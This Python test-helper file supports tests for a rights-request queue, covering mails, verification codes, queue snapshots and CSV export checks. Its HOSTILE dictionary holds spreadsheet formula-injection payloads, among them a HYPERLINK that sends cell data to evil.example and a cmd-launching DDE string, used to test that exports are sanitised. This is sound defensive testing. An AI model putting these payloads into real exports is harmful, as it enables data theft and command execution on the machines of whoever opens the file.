"""What the tests of the rights-request queue share: a fixed clock, a draft, the mails the queue sent, the
code and link token of a verification mail, a snapshot of the whole queue, and the hostile values of
the CSV export's tests (tests/test_requests*.py, tests/test_audit_chain.py, tests/test_cli_requests.py,
tests/test_web_team.py)."""

from __future__ import annotations

import csv
import email
import io
import re
from datetime import UTC, datetime

from assistant import RequestDraft
from assistant.requests import RequestQueue
from assistant.requests.outbox import OutboxWorker

NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)


def draft(**changes) -> RequestDraft:
    values = {"rights": ["erasure"], "name": "Jo Bloggs", "email": "jo@example.com"}
    values.update(changes)
    return RequestDraft(**values).refresh_missing()


def mails(queue: RequestQueue) -> list[email.message.EmailMessage]:
    """Every mail the queue sent: the outbox worker delivers what is due, then its folder is read."""
    worker = OutboxWorker(queue.storage)
    worker.deliver_due()
    return worker.folder.messages()


def code_and_token(message) -> tuple[str, str]:
    body = message.get_content()
    code = re.search(r"^\s+(\d{6})\s*$", body, re.MULTILINE).group(1)
    token = re.search(r"code=([A-Za-z0-9_-]+)", body).group(1)
    return code, token


def snapshot(queue: RequestQueue) -> list[tuple]:
    """Everything about every request and its trail, to show an operation changed nothing."""
    return [(r, tuple(queue.events(r.reference))) for r in queue.list()]


# What a visitor could type to make a spreadsheet run a formula when the team opens the export.
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Jo")',
    "data_concerned": "  +cmd|' /C calc'!A0",
    "categories": ["-2+3", "purchases"],
}


def formula_cells(csv_text: str) -> list[str]:
    """Cells of ``csv_text`` that a spreadsheet would evaluate as a formula."""
    rows = list(csv.reader(io.StringIO(csv_text)))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))
    ]
